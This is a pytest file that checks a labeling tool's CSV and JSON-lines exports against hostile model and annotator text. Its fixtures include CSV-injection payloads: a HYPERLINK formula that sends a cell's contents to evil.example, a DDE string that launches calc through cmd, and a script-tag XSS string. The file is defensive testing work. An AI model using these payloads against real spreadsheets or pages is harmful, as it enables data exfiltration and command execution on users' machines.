"""Hostile model and annotator text in exports: CSV cells never start a spreadsheet formula, and
every JSON lines format stays valid JSON that round-trips the text exactly."""
import csv
import io
import json

import pytest

from labeling.export_records import csv_cell
from tests.labeling.judging import export, judge, tasks_with_responses

pytestmark = pytest.mark.django_db
CONTROL = "bell\x07 esc\x1b[31m soh\x01 stx\x02 cr\r lf\n ls\u2028 rlo\u202eevil"
PROMPT = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
CHOSEN = "+cmd|' /C calc'!A0 " + CONTROL
REJECTED = "-2+3 <script>alert(1)</script>"
SOURCE = "@SUM(1+1)*cmd"


@pytest.fixture
def hostile(project_factory, make_user):
    project = project_factory(mode="pairwise")
    (task,) = tasks_with_responses(project, {PROMPT: [{"text": CHOSEN, "source": SOURCE}, {"text": REJECTED, "source": "\tm"}]})
    judge(task, make_user(), [[0], [1]], rationale="=1+1 " + CONTROL)
    return project


@pytest.mark.parametrize(("text", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("fine =1", "fine =1"), ("", ""), ("'quoted", "'quoted"),
])
def test_csv_cell(text, cell):
    assert csv_cell(text) == cell


def test_csv_cells_never_start_a_formula(hostile):
    rows = list(csv.DictReader(io.StringIO(export(hostile, "csv").decode(), newline="")))
    assert len(rows) == 1
    row = rows[0]
    assert (row["prompt"], row["chosen"], row["rejected"]) == ("'" + PROMPT, "'" + CHOSEN, "'" + REJECTED)
    assert (row["chosen_source"], row["rejected_source"]) == ("'" + SOURCE, "'\tm")
    for column, value in row.items():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)


def strings(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    items = value.values() if isinstance(value, dict) else value if isinstance(value, list) else []
    return [s for item in items for s in strings(item)]


@pytest.mark.parametrize(("fmt", "expected"), [
    ("trl", [PROMPT, CHOSEN, REJECTED]),
    ("trl-chat", [PROMPT, CHOSEN, REJECTED]),
    ("hh", [CHOSEN, REJECTED]),  # transcripts: the texts sit inside "Human: ... Assistant: ..."
    ("ranked", [PROMPT, CHOSEN, REJECTED]),
    ("judgments", [PROMPT, "=1+1 " + CONTROL]),
])
def test_json_lines_stay_valid_and_exact(hostile, fmt, expected):
    text = export(hostile, fmt).decode()
    records = [json.loads(line) for line in text.split("\n") if line]  # a raw newline would split a record
    assert len(records) == 1
    values = strings(records[0])
    for want in expected:  # the text comes back byte for byte, nothing escaped away
        assert any(want in value for value in values), (want, values)
